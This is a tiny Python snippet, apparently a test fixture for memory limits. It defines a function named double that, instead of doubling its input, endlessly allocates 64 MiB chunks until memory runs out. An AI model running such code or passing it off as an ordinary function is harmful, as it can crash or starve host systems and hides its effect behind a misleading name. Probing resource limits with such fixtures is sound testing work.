"""All the memory there is."""


def double(x):
    hoard = []
    while True:
        hoard.append(b"x" * 2**26)
